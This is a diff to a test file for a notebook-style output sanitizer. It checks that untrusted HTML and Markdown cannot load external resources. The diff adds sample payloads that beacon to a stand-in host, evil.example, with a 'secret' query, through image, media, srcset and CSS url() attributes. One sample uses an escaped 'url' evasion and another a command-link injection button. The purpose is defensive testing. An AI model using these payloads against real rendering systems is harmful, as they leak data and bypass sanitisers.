@@ -11,10 +11,32 @@ const OUTPUTS = {
   'application/javascript': 'window.hurt=1'
 };
 
+const SECRET = 'https://evil.example/?secret';
+const FETCHES = [
+  `<img src="${SECRET}"><img src="//evil.example"><img src="files/secret">`,
+  `<img srcset="data:image/png;base64,AA, ${SECRET} 2x">`,
+  `<audio src="${SECRET}"></audio><video poster="${SECRET}" src="${SECRET}"></video>`,
+  `<input type="image" src="${SECRET}"><table background="${SECRET}"></table>`,
+  `<p style="background-image: url(${SECRET})">1</p>`,
+  `<p style="cursor: url('${SECRET}'), auto">2</p>`,
+  `<p style="background: u\\72l(${SECRET})">3</p>`,
+  `<p style="list-style-image: image-set('${SECRET}' 1x)">4</p>`,
+  `<button data-commandlinker-command="console:inject">5</button>`
+].join('\n');
+const KEPT = [
+  '<img src="data:image/png;base64,AA">',
+  '<img src="attachment:tea.png">',
+  '<p style="color: rgb(1, 2, 3); width: 10px">a</p>'
+].join('\n');
+
 describe('distrust', () => {
   let isDoubted = true;
-  const registry = () => {
-    const made = new RenderMimeRegistry({ initialFactories: standardRendererFactories });
+  const registry = (options: Partial<RenderMimeRegistry.IOptions> = {}) => {
+    const made = new RenderMimeRegistry({
+      initialFactories: standardRendererFactories,
+      markdownParser: { render: text => Promise.resolve(text) },
+      ...options
+    });
     distrust(made, () => isDoubted);
     return made;
   };
@@ -48,9 +70,48 @@ describe('distrust', () => {
     expect((await drawn(made, 'text/html')).innerHTML).toContain('onerror');
   });
 
-  async function drawn(made: RenderMimeRegistry, type: keyof typeof OUTPUTS): Promise<HTMLElement> {
+  it.each(['text/html', 'text/markdown'])('fetches nothing for %s', async type => {
+    for (const made of [registry(), registry().clone()]) {
+      const node = await drawn(made, type, FETCHES + KEPT);
+
+      expect(node.innerHTML).not.toMatch(/evil|secret|url|commandlinker/);
+      const sources = Array.from(node.querySelectorAll('img[src]'), img => img.getAttribute('src'));
+      expect(sources).toEqual(['data:image/png;base64,AA', 'attachment:tea.png']);
+      expect(node.innerHTML).toContain('rgb(1, 2, 3)');
+    }
+  });
+
+  it('draws no form whose renderer fetches what the data name', () => {
+    const made = registry();
+    for (const type of ['application/vnd.vegalite.v5+json', 'text/vnd.mermaid']) {
+      made.addFactory({ ...standardRendererFactories[0], mimeTypes: [type] }, 1);
+
+      expect(made.preferredMimeType({ [type]: '', 'text/plain': '' })).toBe('text/plain');
+    }
+  });
+
+  it('leaves a diagram in Markdown as text, and lets no formula style anything', async () => {
+    const render = jest.fn((text: string) => Promise.resolve(text));
+    const typeset = (node: HTMLElement) => {
+      node.innerHTML = `<mjx-mi style="cursor: url(${SECRET}), auto">x</mjx-mi>`;
+    };
+    const made = registry({ markdownParser: { render }, latexTypesetter: { typeset } });
+
+    const node = document.createElement('div');
+    await made.latexTypesetter!.typeset(node);
+    await drawn(made, 'text/markdown', '> ``` mermaid\nA@{ img: "x" }\n```');
+
+    expect(node.innerHTML).toBe('<mjx-mi>x</mjx-mi>');
+    expect(render).toHaveBeenCalledWith('> ``` text\nA@{ img: "x" }\n```');
+  });
+
+  async function drawn(
+    made: RenderMimeRegistry,
+    type: string,
+    content = OUTPUTS[type as keyof typeof OUTPUTS]
+  ): Promise<HTMLElement> {
     const renderer = made.createRenderer(type);
-    await renderer.renderModel(new MimeModel({ data: { [type]: OUTPUTS[type] }, trusted: true }));
+    await renderer.renderModel(new MimeModel({ data: { [type]: content }, trusted: true }));
     const { node } = renderer;
     renderer.dispose();
     return node;
